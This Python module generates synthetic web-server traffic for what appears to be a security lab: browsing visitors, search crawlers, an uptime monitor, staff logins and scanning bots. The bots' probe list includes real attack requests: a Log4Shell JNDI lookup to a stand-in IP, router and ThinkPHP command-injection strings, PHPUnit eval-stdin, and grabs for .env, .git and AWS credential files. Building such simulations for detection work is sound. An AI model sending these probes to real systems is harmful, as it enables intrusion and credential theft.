"""Everybody who is at any site anyway: visitors, crawlers, a monitor, staff, the bots that probe all."""

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36 "  # noqa: E501
        "Edg/139.0.0.0"
    ),
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:142.0) Gecko/20100101 Firefox/142.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",  # noqa: E501
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 "
        "Mobile/15E148 Safari/604.1"
    ),
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",  # noqa: E501
    (
        "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 "
        "Chrome/130.0.0.0 Mobile Safari/537.36"
    ),
)
_CRAWLERS = (
    "Mozilla/5.0 (compatible; FindBot/2.1; +http://find.example/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
)
_PROBES = (
    "/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-includes/wlwmanifest.xml",
    "/xmlrpc.php?rsd", "/phpmyadmin/index.php", "/pma/", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/boaform/admin/formLogin?username=admin&psd=admin", "/actuator/env", "/actuator/health", "/cgi-bin/luci/;stok=/locale",  # noqa: E501
    "/owa/auth/logon.aspx", "/solr/admin/info/system?wt=json", "/backup.sql", "/config.json", "/server-status",
    "/HNAP1/", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id", "/?x=${jndi:ldap://198.51.100.77:1389/a}",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo", "/console/",
    "/.aws/credentials", "/.DS_Store", "/sftp-config.json", "/remote/login?lang=en", "/autodiscover/autodiscover.json",
)  # fmt: skip
_BOTS = (
    "python-requests/2.31.0", "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "l9explore/1.2.2",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",  # noqa: E501
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
)  # fmt: skip
DAY = 86_400


def visitors(lab, number, days, page, assets, *, then=None, start=0.0):
    """People with browsers: some come back, some share an address. `page(draw)` gives where they go next.

    `then(second, address, agent, referrer)` does what some do at the end of a visit.
    """
    lab.actor("visitors", note="many people; each visit has a browser, some share an address")
    known = []
    with lab.phase("visitors", "browse"):
        for _ in range(number):
            if known and lab.draw.random() < 0.2:
                address, agent = lab.draw.choice(known)
                agent = lab.draw.choice(BROWSERS) if lab.draw.random() < 0.3 else agent
            else:
                address, agent = lab.address("127.{}.21." if lab.direct else None), lab.draw.choice(BROWSERS)
                known.append((address, agent))
            at = start + daytime(lab.draw, days)
            referrer = lab.draw.choice((None, None, "https://www.google.com/", "https://duckduckgo.com/"))
            for step in range(lab.draw.choice((1, 1, 2, 3, 3, 4, 5, 7, 9))):
                target = page(lab.draw)
                lab.later(at, address, target, agent=agent, referer=referrer)
                here = f"https://{lab.host}{target}"
                for one in assets if not step else ():
                    lab.later(at + lab.draw.uniform(0.1, 0.6), address, one, agent=agent, referer=here)
                if lab.draw.random() < 0.04:
                    lab.later(at + 0.7, address, "/apple-touch-icon.png", agent=agent)
                referrer, at = here, at + lab.draw.uniform(4, 120)
            if then:
                then(at, address, agent, referrer)


def daytime(draw, days):
    """A second within so many days, by day rather than by night."""
    return draw.randrange(days) * DAY + min(max(draw.gauss(52_000, 15_000), 60), DAY - 2000)


def machines(lab, days, page, *, home="/", old=(), feed=None):
    """Crawlers, a monitor, and a reader of the feed where there is one."""
    lab.actor("crawlers")
    with lab.phase("crawlers", "crawl"):
        for agent in lab.draw.sample(_CRAWLERS, 2):
            address = lab.address("127.{}.31." if lab.direct else None)
            for day in range(0, days, max(1, days // 8)):
                at = day * DAY + lab.draw.uniform(0, 20_000)
                lab.later(at, address, "/robots.txt", agent=agent)
                for target in [page(lab.draw) for _ in range(22)] + lab.draw.sample(list(old), min(3, len(old))):
                    at += lab.draw.uniform(1, 40)
                    lab.later(at, address, target, agent=agent)
    lab.actor("monitor")
    with lab.phase("monitor", "watch"):
        address = lab.address("127.{}.31." if lab.direct else None)
        for at in range(130, days * DAY, max(1800, days * DAY // 300)):
            lab.later(at, address, home, agent="Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")
    if feed:
        lab.actor("feed")
        with lab.phase("feed", "poll"):
            address = lab.address("127.{}.31." if lab.direct else None)
            for at in range(700, days * DAY, max(3600, days * DAY // 150)):
                lab.later(at, address, feed, agent="FreshRSS/1.24.0 (Linux; https://freshrss.org)")


def bots(lab, days, number=9):
    """The bots that probe every site and find nothing here."""
    lab.actor("noise", "attacker", note="background scanning; nothing succeeds")
    with lab.phase("noise", "noise"):
        for _ in range(number):
            address, agent = lab.address("127.{}.41." if lab.direct else None), lab.draw.choice(_BOTS)
            at = lab.draw.uniform(0, days * DAY - 900)
            for target in lab.draw.sample(_PROBES, lab.draw.randint(4, 12)):
                lab.later(at, address, target, agent=agent, method="POST" if "eval-stdin" in target else "GET")
                at += lab.draw.uniform(0.3, 5)


def staff(lab, name, days, login, work, *, address, agent):
    """Somebody of the site's own: logs in on working days and does `work(second, headers)`, which says when it ended.

    `login` is (path, form, the cookie that it gives).
    """
    lab.actor(name) if name not in lab.actors else None
    door, form, cookie = login
    with lab.phase(name, "work"):
        for day in range(days):
            if day % 7 in (5, 6):
                continue
            at = day * DAY + lab.draw.uniform(28_000, 34_000)
            here = f"https://{lab.host}{door}"
            lab.later(at, address, door, agent=agent)
            if lab.draw.random() < 0.25:
                lab.later(at + 8, address, door, form=form | {list(form)[-1]: "mistyped"}, agent=agent, referer=here)
            lab.later(at + 15, address, door, form=form, agent=agent, referer=here)
            work(at + 17, {"address": address, "agent": agent, "cookie": cookie, "referer": here})
